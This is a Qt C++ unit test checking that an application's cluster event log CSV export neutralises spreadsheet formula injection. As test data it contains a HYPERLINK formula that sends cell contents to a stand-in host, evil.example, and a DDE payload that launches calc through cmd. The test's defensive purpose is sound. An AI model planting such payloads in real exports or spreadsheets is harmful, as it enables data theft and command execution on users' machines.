// The cluster event log's CSV export carries what the server sent (event types, summaries,
// details) as data: a cell a spreadsheet would run as a formula is neutralised, quoting is
// RFC 4180's.
#include "clusters/clustereventlogwidget.h"
#include "domain/clusterevent.h"

#include <QJsonObject>
#include <QTest>

using namespace Qt::Literals::StringLiterals;

using namespace brickdesk;

class TestEventLogCsv final : public QObject
{
    Q_OBJECT

private slots:
    void serverTextIsNeverAFormula();
};

void TestEventLogCsv::serverTextIsNeverAFormula()
{
    ClusterEventLogWidget log;
    const QString formula = u"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"_s;
    log.appendEvents({ClusterEvent::fromJson(QJsonObject {{u"cluster_id"_s, u"c"_s}, {u"timestamp"_s, 1000},
                          {u"type"_s, formula}, {u"details"_s, QJsonObject {{u"reason"_s, u"@SUM(1)"_s}}}}),
        ClusterEvent::fromJson(QJsonObject {
            {u"cluster_id"_s, u"c"_s}, {u"timestamp"_s, 2000}, {u"type"_s, u"+cmd|' /C calc'!A0"_s}})});
    const QString csv = QString::fromUtf8(log.toCsv());
    QStringList lines = csv.split(u'\n', Qt::SkipEmptyParts);
    for (QString &line : lines) {
        if (line.endsWith(u'\r'))
            line.chop(1);
    }
    QCOMPARE(lines.size(), 3);
    // Every cell of every row: none begins with a formula character.
    for (const QString &line : lines) {
        for (QString cell : line.split(u',')) {
            if (cell.startsWith(u'"'))
                cell = cell.mid(1);
            QVERIFY2(cell.isEmpty() || !u"=+-@\t\r"_s.contains(cell.front()), qPrintable(line));
        }
    }
    QVERIFY2(csv.contains(u"'=HYPERLINK"_s), qPrintable(csv));
    QVERIFY2(csv.contains(u"'+cmd"_s), qPrintable(csv));
}

QTEST_MAIN(TestEventLogCsv)
#include "tst_event_log_csv.moc"
